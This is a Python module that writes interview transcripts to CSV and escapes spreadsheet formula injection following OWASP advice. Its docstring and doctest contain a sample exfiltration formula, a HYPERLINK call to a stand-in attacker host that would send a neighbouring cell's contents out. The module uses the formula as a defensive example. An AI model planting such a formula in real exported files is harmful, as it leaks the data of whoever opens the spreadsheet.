"""The turns as CSV (``--format csv``), safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is a formula to Excel, LibreOffice Calc and Google Sheets:
a turn that reads ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would
become a live link that sends the cell next to it away. As the OWASP page
on CSV injection recommends, such a cell is written with a single quote in
front (``'=HYPERLINK(...)``), which spreadsheets show as text. Machine
consumers that want the text exactly as spoken pass
``escape_formulas=False`` (``--raw-csv`` on the command line).
"""

from __future__ import annotations

import csv
import io
import os
from typing import Any

from ..model import Interview
from ._base import ExportContext, Written
from .rows import TURN_COLUMNS, turn_rows

__all__ = ["FORMULA_TRIGGERS", "escape_formula", "to_csv", "write_csv"]

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def escape_formula(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula.

    Only text is changed: numbers (``-3``) and empty cells stay as they are.

    >>> escape_formula('=HYPERLINK("http://evil.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    >>> escape_formula("- I mean, yes."), escape_formula("Yes."), escape_formula(-3)
    ("'- I mean, yes.", 'Yes.', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def to_csv(
    doc: Interview,
    *,
    document_id: str = "interview",
    source: str | os.PathLike[str] | None = None,
    header: bool = True,
    escape_formulas: bool = True,
) -> str:
    """The turns as CSV (RFC 4180 quoting, ``\\n`` line ends), with a header row unless ``header=False``.

    With ``escape_formulas`` (the default) every text cell that a spreadsheet
    would run as a formula gets a ``'`` in front (see :func:`escape_formula`);
    pass ``False`` for programs that read the file as data.
    """
    rows = turn_rows(doc, document_id=document_id, source=source)
    if escape_formulas:
        rows = [{column: escape_formula(value) for column, value in row.items()} for row in rows]
    # csv quotes a cell holding a character of the line terminator: with "\r\n" a lone "\r" in a cell is
    # quoted too (with "\n" it would not be, and a spreadsheet would end the row there). Each record is
    # then ended with "\n" instead.
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=TURN_COLUMNS, lineterminator="\r\n")
    lines = []
    for row in ([dict(zip(TURN_COLUMNS, TURN_COLUMNS, strict=True))] if header else []) + rows:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(row)
        lines.append(buffer.getvalue()[:-2] + "\n")
    return "".join(lines)


def write_csv(doc: Interview, context: ExportContext) -> Written:
    """``--format csv`` (``--raw-csv`` sets ``escape_formulas=False``)."""
    text = to_csv(
        doc, document_id=context.document_id, source=context.source, escape_formulas=context.escape_formulas
    )
    return Written(text)
